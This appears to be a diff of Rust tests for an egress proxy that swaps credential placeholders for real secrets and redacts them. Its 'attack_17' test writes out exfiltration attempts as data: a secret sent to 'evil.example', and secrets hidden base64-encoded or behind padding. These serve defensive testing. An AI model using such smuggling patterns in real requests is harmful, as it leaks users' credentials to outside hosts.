@@ -6,10 +6,14 @@ use crate::world::{World, manifest_with, tight};
 use base64::Engine as _;
 use base64::engine::general_purpose::STANDARD;
 use bytes::Bytes;
+use secrecy::SecretString;
+use sophon_audit::Action;
+use sophon_egress::EgressSession;
 use sophon_egress::{HttpError, HttpRequest, TokenRefused};
 use sophon_skill::Manifest;
-use sophon_types::Fault as _;
-use sophon_vault::Attach;
+use sophon_types::{Fault as _, Principal, Role};
+use sophon_vault::{Attach, Binding, Owner, Placing};
+use std::collections::BTreeMap;
 
 const TOKEN: &str = "ghp_5bNLqtirsqPaayJsR8x2Vd0TuQwEz";
 
@@ -142,4 +146,141 @@ async fn who_gets_no_token() {
     // Which of two fields a placeholder without a name stands for is not guessed.
     let nameless = session.placeholder(&github, None).await.unwrap();
     assert_eq!(code(session.send(with_header(URL, "X-Api-Key", &nameless)).await), Some("credential_unfit"));
+}
+
+/// A secret with everything that an encoding has to deal with.
+const SECRET: &str = "s3cr+et/with \"quotes\" & =%ü";
+
+/// A connection with a secret that may stand in those places, a user's name, and a session in which both are handed out.
+async fn placed(positions: &[&str], shape: Option<&str>) -> (World, EgressSession, String) {
+    let world = World::new(tight()).await;
+    let fields = BTreeMap::from([
+        ("secret".to_owned(), SecretString::from(SECRET)),
+        ("user".to_owned(), SecretString::from("ann")),
+    ]);
+    let placing = Placing {
+        shape: shape.map(|shape| shape.parse().unwrap()),
+        positions: positions.iter().map(|at| at.parse().unwrap()).collect(),
+    };
+    let binding = Binding {
+        attach: Some(Attach::Placeholders),
+        plain: ["user".to_owned()].into(),
+        placeholders: BTreeMap::from([("secret".to_owned(), placing)]),
+        ..Binding::default()
+    };
+    let actor = Principal { role: Role::Approver, ..world.principal() };
+    world.vault.put(&actor, Owner::User, &"github".parse().unwrap(), fields, binding).await.unwrap();
+    let session = world.session(&crate::world::manifest(NAMED), &[]).await;
+    let fields = session.connection_fields(&"github".parse().unwrap()).await.unwrap();
+    assert_eq!(fields["user"], "ann");
+    let secret = fields["secret"].clone();
+    (world, session, secret)
+}
+
+fn post(media_type: &str, body: String) -> HttpRequest {
+    let mut request = HttpRequest::new("POST", URL);
+    request.headers = vec![("Content-Type".into(), media_type.as_bytes().to_vec())];
+    request.body = Some(Bytes::from(body));
+    request
+}
+
+const QUOTED: &str = "s3cr%2Bet%2Fwith%20%22quotes%22%20%26%20%3D%25%C3%BC";
+const FORM: &str = "application/x-www-form-urlencoded";
+
+#[tokio::test]
+async fn a_placeholder_is_swapped_where_the_connection_names_it_encoded_for_its_place() {
+    let (world, session, secret) = placed(&["path", "query:key", "form:pass", "json:auth.pass"], None).await;
+    let seen = || world.cables.log.all().pop().unwrap();
+    session.send(HttpRequest::new("GET", format!("https://api.example.com/hook/{secret}/send?a=%20b"))).await.unwrap();
+    assert_eq!(seen().target(), format!("/hook/{QUOTED}/send?a=%20b"));
+    session.send(HttpRequest::new("GET", format!("{URL}?a=1&key={secret}&b=2"))).await.unwrap();
+    assert_eq!(seen().target(), format!("/x?a=1&key={QUOTED}&b=2"));
+    session.send(post(FORM, format!("user=ann&pass={secret}&x=+y"))).await.unwrap();
+    assert_eq!(String::from_utf8(seen().body).unwrap(), format!("user=ann&pass={QUOTED}&x=+y"));
+    let json = format!(r#"{{"n":12345678901234567890123, "auth" : {{"pass":"{secret}"}}}}"#);
+    session.send(post("application/json", json)).await.unwrap();
+    let expected = format!(r#"{{"n":12345678901234567890123, "auth" : {{"pass":{}}}}}"#, serde_json::json!(SECRET));
+    assert_eq!(String::from_utf8(seen().body).unwrap(), expected);
+    assert_eq!(seen().header("content-length"), Some(expected.len().to_string().as_str()));
+    // Neither the answers nor the audit log show what it stands for.
+    world.script(|seen| answer(200, &[("X-Back", seen.target())], &seen.body));
+    let echoed = session.send(HttpRequest::new("GET", format!("{URL}?key={secret}"))).await.unwrap();
+    assert!(!format!("{:?} {:?}", echoed.headers, echoed.url).contains(QUOTED));
+    let echoed = session.send(post(FORM, format!("pass={secret}"))).await.unwrap();
+    assert!(!String::from_utf8_lossy(&echoed.body).contains(QUOTED), "{echoed:?}");
+    let audit = world.audit_text().await;
+    assert!(!audit.contains(QUOTED) && !audit.contains("s3cr"), "{audit}");
+}
+
+#[tokio::test]
+async fn a_placeholder_in_its_shape_is_swapped_as_a_whole() {
+    let (world, session, secret) = placed(&["query:key"], Some("pre-{}:fx")).await;
+    assert!(secret.starts_with("pre-sophon-ph-") && secret.ends_with(":fx"));
+    session.send(HttpRequest::new("GET", format!("{URL}?key={}", secret.replace(':', "%3A")))).await.unwrap();
+    assert_eq!(world.cables.log.all()[0].target(), format!("/x?key={QUOTED}"));
+    // Cut out of its shape it stands for nothing.
+    let cut = HttpRequest::new("GET", format!("{URL}?key={}", secret.trim_end_matches(":fx")));
+    assert_eq!(code(session.send(cut).await), Some("credential_unfit"));
+    assert_eq!(world.cables.log.all().len(), 1);
+}
+
+#[tokio::test]
+async fn attack_16_tokens_of_a_login_reach_the_skill_as_placeholders() {
+    let (world, session, secret) = placed(&["form:client_secret"], None).await;
+    const LIVE: &str = "at-0123456789/abcdef";
+    world.script(|seen| match seen.method() {
+        "POST" if String::from_utf8_lossy(&seen.body).contains("grant_type=client_credentials") => {
+            let body = format!(r#"{{"access_token":"{LIVE}","token_type":"Bearer","expires_in":3600}}"#);
+            answer(200, &[("Content-Type", "application/json"), ("X-Auth-Token", LIVE)], body.as_bytes())
+        }
+        _ => answer(200, &[], format!("{:?}", seen.headers).as_bytes()),
+    });
+    let login = post(FORM, format!("grant_type=client_credentials&client_secret={secret}"));
+    let response = session.send(login).await.unwrap();
+    let body: serde_json::Value = serde_json::from_slice(&response.body).unwrap();
+    let token = body["access_token"].as_str().unwrap().to_owned();
+    assert!(token.starts_with("sophon-ph-"), "{body}");
+    assert_eq!((&body["token_type"], &body["expires_in"]), (&"Bearer".into(), &3600.into()));
+    assert!(!format!("{response:?} {:?}", response.headers).contains(LIVE));
+    // It works like any other placeholder, and what it stands for is redacted from what comes back.
+    let echoed = session.send(with_header(URL, "Authorization", &format!("Bearer {token}"))).await.unwrap();
+    let seen = world.cables.log.all().pop().unwrap();
+    assert_eq!(seen.header("authorization"), Some(format!("Bearer {LIVE}").as_str()));
+    assert!(!String::from_utf8_lossy(&echoed.body).contains(LIVE));
+    // The same token is the same placeholder; another host, and another place, gets none of it.
+    let again = post(FORM, format!("grant_type=client_credentials&client_secret={secret}"));
+    let again = session.send(again).await.unwrap();
+    assert!(String::from_utf8_lossy(&again.body).contains(&token));
+    let sent = world.cables.log.all().len();
+    let elsewhere = with_header("https://other.example.com/x", "Authorization", &format!("Bearer {token}"));
+    assert_eq!(code(session.send(elsewhere).await), Some("credential_not_allowed"));
+    let misplaced = post("application/json", format!(r#"{{"text":"{token}"}}"#));
+    assert_eq!(code(session.send(misplaced).await), Some("placeholder_misplaced"));
+    assert_eq!(world.cables.log.all().len(), sent);
+    assert!(!world.audit_text().await.contains(LIVE));
+}
+
+#[tokio::test]
+async fn attack_17_a_placeholder_that_strays_raises_an_alarm() {
+    let (world, session, secret) = placed(&[], None).await;
+    let alarms = || async {
+        world.audited().await.iter().filter(|e| e.record["action"] == Action::EgressAlarm.as_str()).count()
+    };
+    for (index, request) in [
+        with_header("https://other.example.com/x", "Authorization", &format!("Bearer {secret}")),
+        with_header("https://evil.example/x", "Authorization", &format!("Bearer {secret}")),
+        HttpRequest::new("GET", format!("{URL}?q={secret}")),
+        post("application/json", format!(r#"{{"text":"{}"}}"#, STANDARD.encode(&secret))),
+        post("text/plain", format!("{}{}", "x".repeat(100_000), STANDARD.encode(&secret))),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        assert!(session.send(request).await.is_err());
+        assert_eq!(alarms().await, index + 1);
+    }
+    // An ordinary refusal is none.
+    assert!(session.send(HttpRequest::new("GET", "https://evil.example/x")).await.is_err());
+    assert_eq!(alarms().await, 5);
+    assert!(world.cables.log.all().is_empty());
 }
